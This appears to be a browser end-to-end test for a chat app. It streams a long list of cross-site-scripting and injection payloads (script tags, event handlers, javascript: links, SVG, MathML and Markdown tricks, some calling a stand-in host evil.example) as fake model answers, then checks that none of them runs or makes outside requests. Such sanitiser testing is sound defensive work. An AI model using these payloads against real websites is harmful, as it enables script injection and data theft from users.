// What others write is shown and does nothing: in the chat room as it streams, and on a shared page.
import { awake, expect, signIn, test } from "./support";

const run = "globalThis.ran=1";
const there = "https://evil.example";
/** Roads to a script, a request or another page that Markdown, HTML, SVG and formulas offer. */
const attacks = [
  `<script>${run}</script>`,
  `<script src="${there}/x.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<!-- --><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml ?><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${there}/x.png">`,
  `<img srcset="${there}/x.png 1x">`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg><use href="${there}/x.svg#a"></use></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext></mtext><script>${run}</script></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${there}/x">`,
  `<video><source onerror=${run}></video>`,
  `<audio src="${there}/x" autoplay onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="${there}"><button>x</button></form>`,
  `<base href="${there}/">`,
  `<meta http-equiv="refresh" content="0;url=${there}">`,
  `<link rel="stylesheet" href="${there}/x.css">`,
  `<style>*{background:url(${there}/x)}</style>`,
  `<div style="background:url(${there}/x)">x</div>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<a href="javascript:${run}">x</a>`,
  `<div\nonclick=${run}>x</div>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\tscript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](<javascript:${run}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](vbscript:x)`,
  `[x](//evil.example/path)`,
  `[x][r]\n\n[r]: javascript:${run}`,
  `<javascript:${run}>`,
  `![x](javascript:${run})`,
  `![x](${there}/?secret)`,
  `![x"onerror="${run}](${there}/x.png "t" onload=${run})`,
  `[x](https://ok.example/"onmouseover="${run})`,
  `[x](https://ok.example/'><script>${run}</script>)`,
  `\`\`\`"><script>${run}</script>\n<img src=x onerror=${run}>\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  `    <script>${run}</script>`,
  `# <img src=x onerror=${run}> {#id onclick=${run}}`,
  `| <script>${run}</script> |\n|---|\n| <img src=x onerror=${run}> |`,
  `> <script>\n> ${run}\n> </script>`,
  `~~<b onmouseover=${run}>x</b>~~`,
  `$<img src=x onerror=${run}>$`,
  `$$</math><script>${run}</script>$$`,
  `\\(\\href{javascript:${run}}{x}\\)`,
  `\\[\n\\text{<img src=x onerror=${run}>}\n\\]`,
  `$\\includegraphics{${there}/x.png}$`,
];

const forbidden = [
  "script, img, iframe, object, embed, video, audio, form, base, meta, link, style, svg, input, select, template",
  "annotation-xml, maction, [style], [srcset], [srcdoc]",
].join(", ");

/** What of an answer could act, in the page. */
function acting(roots: Element[], selector: string) {
  return roots.flatMap((root) => [
    ...[...root.querySelectorAll(selector)].map((element) => element.outerHTML),
    ...[...root.querySelectorAll("*")]
      .filter((element) => element.getAttributeNames().some((name) => name.startsWith("on")))
      .map((element) => element.outerHTML),
    ...[...root.querySelectorAll("[href]")]
      .filter((element) => !/^(https?:|mailto:)/.test(element.getAttribute("href") ?? ""))
      .map((element) => element.outerHTML),
  ]);
}

test(`none of ${attacks.length} attacks does anything`, async ({ page, baseURL }) => {
  const outside: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(baseURL ?? "") && !request.url().startsWith("data:")) outside.push(request.url());
  });
  page.on("dialog", (dialog) => {
    outside.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await signIn(page, "/chat");
  await page.goto("/chat?model=openai/gpt-5.4-mini");
  await awake(page);
  let next = "";
  await page.route("**/api/v1/chat/completions", (route) => {
    // In two pieces, cut in the middle, as a stream would.
    const half = Math.floor(next.length / 2);
    const deltas = [next.slice(0, half), next.slice(half)].map((content) => ({ id: "gen-1", choices: [{ delta: { content } }] }));
    const body = `${deltas.map((delta) => `data: ${JSON.stringify(delta)}\n\n`).join("")}data: [DONE]\n\n`;
    return route.fulfill({ contentType: "text/event-stream", body });
  });
  const answers = page.locator("article.message-answer");
  for (const [count, attack] of attacks.entries()) {
    next = attack;
    await page.getByRole("textbox", { name: "Message" }).fill(`attack ${count}`);
    await page.getByRole("button", { name: "Send" }).click();
    await expect(answers).toHaveCount(count + 1);
    await expect(answers.nth(count)).toHaveAttribute("aria-busy", "false");
  }
  await awake(page);
  const prose = page.locator("article.message-answer .prose");
  expect(await prose.evaluateAll(acting, forbidden)).toEqual([]);
  expect(await page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();

  // The same, rendered by the server.
  const turns = attacks.flatMap((attack) => [
    { is_answer: false, content: attack },
    { is_answer: true, content: attack, reasoning: attack },
  ]);
  const kept = await page.request.post("/api/v1/chats", {
    headers: { Origin: baseURL ?? "" },
    data: { document: { columns: [{ turns }] } },
  });
  expect(kept.status(), await kept.text()).toBe(201);
  const { data } = await kept.json();
  const shared = await page.request.post(`/api/v1/chats/${data.id}/share`, { headers: { Origin: baseURL ?? "" } });
  await page.goto(`/shared/${(await shared.json()).data.share_id}`);
  await awake(page);
  expect(await page.locator("main .prose").count()).toBeGreaterThan(attacks.length);
  expect(await page.locator("main .prose").evaluateAll(acting, forbidden)).toEqual([]);
  expect(await page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();
  await page.request.delete(`/api/v1/chats/${data.id}`, { headers: { Origin: baseURL ?? "" } });
  expect(outside).toEqual([]);
});
